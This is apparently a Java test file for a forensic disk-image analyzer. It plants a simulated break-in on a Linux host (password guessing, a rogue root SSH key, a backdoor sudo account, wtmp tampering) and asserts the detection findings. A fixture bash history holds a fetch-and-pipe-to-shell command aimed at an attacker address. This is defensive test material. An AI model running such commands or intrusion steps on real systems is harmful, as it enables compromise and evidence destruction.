package io.custody.analyzer.disk;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import io.custody.analyzer.testing.Cases;
import io.custody.evidence.Severity;
import io.custody.evidence.hash.ProgressListener;
import io.custody.evidence.ids.Cidr;
import io.custody.evidence.segment.Compression;
import io.custody.evidence.workspace.Case;
import io.custody.evidence.workspace.Item;
import io.custody.evidence.workspace.ItemSpec;
import io.custody.evidence.workspace.ItemType;
import java.io.ByteArrayInputStream;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.util.List;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A Debian-style host that was broken into, in an ext4 (and, as root, an XFS) image made here: the
 * attacker guessed a password, logged in as root with a key that sshd_config's AuthorizedKeysFile
 * names outside ~/.ssh, added an account and gave it sudo, and removed a login from wtmp; the case
 * holds a CloudTrail analysis in which the attacker's address called AWS. Every finding and the
 * timeline rows are checked; a clean host made the same way gives none of them.
 */
class LoginsImageTest {

  @TempDir Path tmp;

  static final String ATTACKER = "203.0.113.5";
  static final String GUESSER = "198.51.100.7";

  /** The host's files; {@code compromised} false: a clean host with the same kinds of records. */
  void plant(Path root, boolean compromised) throws Exception {
    Files.createDirectories(root.resolve("etc/ssh/keys"));
    Files.createDirectories(root.resolve("root/.ssh"));
    Files.createDirectories(root.resolve("var/log"));
    Files.writeString(root.resolve("etc/passwd"), "root:x:0:0:root:/root:/bin/bash\nadmin:x:1000:1000::/home/admin:/bin/bash\n"
        + (compromised ? "backdoor:x:1001:1001::/home/backdoor:/bin/bash\n" : ""));
    Files.writeString(root.resolve("etc/timezone"), "Etc/UTC\n");
    Files.writeString(root.resolve("etc/ssh/sshd_config"), "PermitRootLogin prohibit-password\nAuthorizedKeysFile .ssh/authorized_keys /etc/ssh/keys/%u.pub\n");
    Path key = tmp.resolve("attacker" + compromised);
    Cases.run(tmp, "ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "attacker@evil", "-f", key.toString());
    String fp = Cases.run(tmp, "ssh-keygen", "-l", "-f", key + ".pub").split(" ")[1];
    if (compromised) {
      Files.copy(Path.of(key + ".pub"), root.resolve("etc/ssh/keys/root.pub"));
    }
    StringBuilder auth = new StringBuilder();
    if (compromised) {
      for (int i = 0; i < 6; i++) {
        auth.append("Mar  1 11:5").append(i).append(":00 web-1 sshd[9").append(i).append("]: Failed password for admin from ").append(GUESSER)
            .append(" port 4100").append(i).append(" ssh2\n");
      }
      auth.append("Mar  1 11:57:00 web-1 sshd[99]: Accepted password for admin from ").append(GUESSER).append(" port 41010 ssh2\n");
      auth.append("Mar  1 12:00:00 web-1 sshd[100]: Accepted publickey for root from ").append(ATTACKER).append(" port 51234 ssh2: ED25519 ")
          .append(fp).append("\n");
      auth.append("Mar  1 12:01:00 web-1 useradd[200]: new user: name=backdoor, UID=1001, GID=1001, home=/home/backdoor, shell=/bin/bash, from=/dev/pts/0\n");
      auth.append("Mar  1 12:01:05 web-1 usermod[201]: add 'backdoor' to group 'sudo'\n");
    } else {
      auth.append("Mar  1 09:00:00 web-1 sshd[100]: Accepted publickey for admin from 10.0.5.20 port 51234 ssh2: ED25519 ").append(fp).append("\n");
      auth.append("Mar  1 09:00:10 web-1 sudo:    admin : TTY=pts/0 ; PWD=/home/admin ; USER=root ; COMMAND=/usr/bin/apt update\n");
    }
    Files.writeString(root.resolve("var/log/auth.log"), auth.toString());
    Files.writeString(root.resolve("root/.bash_history"), compromised ? "id\ncurl -s http://203.0.113.5/x | sh\nhistory -c\n" : "apt update\n");
    if (compromised) {
      Files.createDirectories(root.resolve("home/backdoor"));
      Files.createSymbolicLink(root.resolve("home/backdoor/.bash_history"), Path.of("/dev/null"));
    }
    try (OutputStream o = new GZIPOutputStream(Files.newOutputStream(root.resolve("var/log/auth.log.2.gz")))) {
      o.write("Feb 20 08:00:00 web-1 sshd[10]: Accepted publickey for admin from 10.0.5.20 port 50000 ssh2\n".getBytes(StandardCharsets.US_ASCII));
    }
    String wtmp = "[7] [00100] [ts/0] [admin   ] [pts/0       ] [10.0.5.20           ] [10.0.5.20      ] [2026-02-20T08:00:00,000000+00:00]\n"
        + (compromised ? "[7] [00100] [ts/1] [root    ] [pts/1       ] [" + ATTACKER + "         ] [" + ATTACKER + "    ] [2026-03-01T12:00:00,000000+00:00]\n"
        // the attacker's second visit: in wtmp, its sshd line removed from auth.log
        + "[7] [00101] [ts/2] [root    ] [pts/2       ] [" + ATTACKER + "         ] [" + ATTACKER + "    ] [2026-03-01T11:30:00,000000+00:00]\n" : "");
    Path txt = Files.writeString(tmp.resolve("wtmp" + compromised + ".txt"), wtmp);
    Cases.run(tmp, "sh", "-c", "utmpdump -r -o " + root.resolve("var/log/wtmp") + " < " + txt);
    // admin's last login per lastlog: the guessed-password login at 11:57 on Mar 1, which the attacker removed from wtmp
    Files.write(root.resolve("var/log/lastlog"), HostRecordsTest.lastlog(1000, compromised ? 1772366220L : 1771574400L, "pts/0",
        compromised ? GUESSER : "10.0.5.20"));
    Cases.run(tmp, "touch", "-d", "2026-03-02 00:00:00 UTC", root.resolve("var/log/auth.log").toString(), root.resolve("var/log/auth.log.2.gz").toString());
  }

  private Path ext4(String name, boolean compromised) throws Exception {
    Path root = Files.createDirectories(tmp.resolve(name + "-root"));
    plant(root, compromised);
    Path image = tmp.resolve(name + ".ext4");
    Cases.run(tmp, "truncate", "-s", "16M", image.toString());
    Cases.run(tmp, "mkfs.ext4", "-q", "-d", root.toString(), image.toString());
    return image;
  }

  private void checkCompromised(DiskAnalysis.Result r) throws Exception {
    List<DiskFinding> f = r.report().findings();
    assertThat(f).filteredOn(x -> x.ruleId().equals("ssh-key-login")).singleElement().satisfies(x -> {
      assertThat(x.severity()).isEqualTo(Severity.CRITICAL);
      assertThat(x.path()).isEqualTo("/etc/ssh/keys/root.pub");
      assertThat(x.reason()).contains("logged in as root 1 time(s) from " + ATTACKER, "first 2026-03-01T12:00:00Z", "in CloudTrail");
    });
    assertThat(f).filteredOn(x -> x.ruleId().equals("login-from-case-address")).singleElement()
        .satisfies(x -> assertThat(x.reason()).contains(ATTACKER, "AKIAEXAMPLEKEY000001", "/var/log/auth.log:8"));
    assertThat(f).filteredOn(x -> x.ruleId().equals("password-guessing-then-success")).singleElement()
        .satisfies(x -> assertThat(x.reason()).startsWith("6 failed logins from " + GUESSER));
    assertThat(f).filteredOn(x -> x.ruleId().equals("login-from-unknown-address")).extracting(DiskFinding::reason)
        .anySatisfy(x -> assertThat(x).contains(GUESSER));
    assertThat(f).filteredOn(x -> x.ruleId().equals("ssh-root-login")).hasSize(1);
    assertThat(f).filteredOn(x -> x.ruleId().equals("account-added")).extracting(DiskFinding::reason)
        .anySatisfy(x -> assertThat(x).contains("account backdoor was created at 2026-03-01T12:01:00Z"))
        .anySatisfy(x -> assertThat(x).contains("backdoor was added to group sudo"));
    assertThat(f).filteredOn(x -> x.ruleId().equals("login-records-tampered")).singleElement()
        .satisfies(x -> assertThat(x.reason()).contains("lastlog holds a login of admin at 2026-03-01T11:57:00Z"));
    assertThat(r.report().events()).extracting(HostEvent::kind).contains("ssh-failed", "ssh-accepted", "login", "last-login", "user-added");
    assertThat(f).filteredOn(x -> x.ruleId().equals("log-lines-removed")).singleElement()
        .satisfies(x -> assertThat(x.reason()).startsWith("1 remote login(s) in wtmp have no sshd line").contains("root from " + ATTACKER
            + " at 2026-03-01T11:30:00Z"));
    assertThat(f).filteredOn(x -> x.ruleId().equals("history-cleared")).extracting(x -> x.severity() + " " + x.path())
        .containsExactlyInAnyOrder("medium /root/.bash_history", "high /home/backdoor/.bash_history");
    assertThat(r.report().events()).filteredOn(e -> e.source().contains("auth.log.2.gz")).singleElement()
        .satisfies(e -> assertThat(e.timeUtc()).isEqualTo("2026-02-20T08:00:00Z"));
    assertThat(r.report().authorizedKeys()).filteredOn(k -> k.logins() != null).singleElement()
        .satisfies(k -> assertThat(k.usedFrom()).containsExactly(ATTACKER));
    Item timeline = r.outputs().stream().filter(i -> i.name().equals("timeline.csv")).findFirst().orElseThrow();
    List<String> rows = Files.readAllLines(Cases.file(kase, timeline), StandardCharsets.ISO_8859_1);
    assertThat(rows.get(0)).isEqualTo("Date,Size,Type,Mode,UID,GID,Meta,File Name,Source");
    int guess = indexOf(rows, "ssh-failed user=admin from=" + GUESSER);
    int key = indexOf(rows, "ssh-accepted user=root from=" + ATTACKER);
    int added = indexOf(rows, "user-added user=backdoor");
    assertThat(guess).isPositive().isLessThan(key);
    assertThat(key).isLessThan(added);
    assertThat(rows.get(key)).startsWith("Sun Mar 01 2026 12:00:00,0,log,").endsWith("/var/log/auth.log:8\"");
  }

  private Case kase;

  private static int indexOf(List<String> rows, String text) {
    for (int i = 0; i < rows.size(); i++) {
      if (rows.get(i).contains(text)) {
        return i;
      }
    }
    return -1;
  }

  @Test
  void ext4_compromisedHost_everyLoginFinding_andTheTimelineInOrder() throws Exception {
    DiskAnalysis.Result r = analyseKeeping(ext4("bad", true), "LOGIN-1", true);
    checkCompromised(r);
  }

  @Test
  void xfs_compromisedHost_sameFindings() throws Exception {
    assumeTrue("root".equals(System.getProperty("user.name")), "needs root (XFS is made and walked through loop mounts): skipped");
    Path image = Cases.xfsImage(tmp, "bad.xfs", 320, root -> plant(root, true));
    DiskAnalysis.Result r = analyseKeeping(image, "LOGIN-2", true);
    checkCompromised(r);
  }

  @Test
  void ext4_cleanHost_noLoginFinding() throws Exception {
    Path image = ext4("clean", false);
    DiskAnalysis.Result r = analyseKeeping(image, "LOGIN-3", true);
    assertThat(r.report().findings()).extracting(DiskFinding::ruleId).doesNotContain("ssh-key-login", "login-from-case-address",
        "password-guessing-then-success", "login-from-unknown-address", "ssh-root-login", "account-added", "login-records-tampered",
        "history-cleared", "log-lines-removed");
    assertThat(r.report().events()).extracting(HostEvent::kind).contains("ssh-accepted", "sudo", "login", "last-login");
  }

  /**
   * A host with journald only (Amazon Linux 2023, Debian 12 without rsyslog): the journal file is
   * written by systemd-journal-remote from journal export entries, the same key login and useradd.
   */
  @Test
  void journalOnlyHost_sameKeyLoginAndAccount_fromTheJournal() throws Exception {
    Path remote = Path.of("/usr/lib/systemd/systemd-journal-remote");
    assumeTrue(Files.isExecutable(remote), "systemd-journal-remote missing: run scripts/setup");
    Path root = Files.createDirectories(tmp.resolve("journal-root"));
    plant(root, true);
    String auth = Files.readString(root.resolve("var/log/auth.log"));
    Files.delete(root.resolve("var/log/auth.log"));
    Files.delete(root.resolve("var/log/auth.log.2.gz"));
    StringBuilder export = new StringBuilder();
    for (String line : auth.split("\n")) {
      // "Mar  1 12:00:00 web-1 sshd[100]: message" -> one journal export entry
      java.util.regex.Matcher m = java.util.regex.Pattern.compile("^Mar  1 (\\d\\d):(\\d\\d):(\\d\\d) web-1 (\\w+)\\[(\\d+)\\]: (.*)$").matcher(line);
      assertThat(m.matches()).as(line).isTrue();
      long t = java.time.ZonedDateTime.of(2026, 3, 1, Integer.parseInt(m.group(1)), Integer.parseInt(m.group(2)), Integer.parseInt(m.group(3)), 0,
          java.time.ZoneOffset.UTC).toEpochSecond();
      export.append("__REALTIME_TIMESTAMP=").append(t * 1_000_000).append("\n_HOSTNAME=web-1\nSYSLOG_IDENTIFIER=").append(m.group(4))
          .append("\n_PID=").append(m.group(5)).append("\nMESSAGE=").append(m.group(6)).append("\n\n");
    }
    Path dir = Files.createDirectories(root.resolve("var/log/journal/0123456789abcdef0123456789abcdef"));
    Path in = Files.writeString(tmp.resolve("export.txt"), export.toString());
    Cases.run(tmp, "sh", "-c", remote + " -o " + dir.resolve("system.journal") + " --split-mode=none - < " + in);
    Path image = tmp.resolve("journal.ext4");
    Cases.run(tmp, "truncate", "-s", "32M", image.toString());
    Cases.run(tmp, "mkfs.ext4", "-q", "-d", root.toString(), image.toString());
    DiskAnalysis.Result r = analyseKeeping(image, "LOGIN-4", true);
    assertThat(r.report().findings()).filteredOn(x -> x.ruleId().equals("ssh-key-login")).singleElement()
        .satisfies(x -> assertThat(x.reason()).contains("logged in as root 1 time(s) from " + ATTACKER));
    assertThat(r.report().findings()).filteredOn(x -> x.ruleId().equals("login-from-case-address")).singleElement()
        .satisfies(x -> assertThat(x.reason()).contains("/var/log/journal/0123456789abcdef0123456789abcdef/system.journal#"));
    assertThat(r.report().findings()).extracting(DiskFinding::ruleId).contains("password-guessing-then-success", "account-added");
  }

  private DiskAnalysis.Result analyseKeeping(Path image, String id, boolean ct) throws Exception {
    kase = Cases.open(tmp.resolve("home-" + id), id);
    if (ct) {
      byte[] b = ("{\"kind\":\"custody.cloudtrail-analysis\",\"summaries\":[{\"key\":\"AKIAEXAMPLEKEY000001\",\"source_ips\":{\"" + ATTACKER
          + "\":12}}]}").getBytes(StandardCharsets.UTF_8);
      kase.add(ItemSpec.of(ItemType.ANALYSIS, "cloudtrail", "cloudtrail-analysis.json"), new ByteArrayInputStream(b), b.length, ProgressListener.NONE);
    }
    Item disk = Cases.addDisk(kase, image, "vol-0" + id.toLowerCase().replaceAll("[^a-z0-9]", "") + "00000000", Compression.ZSTD, 64 << 20);
    return new DiskAnalysis(Clock.systemUTC()).workDir(tmp.resolve("work-" + id)).knownNetworks(List.of(new Cidr("10.0.0.0/8")))
        .run(kase, disk.id());
  }
}
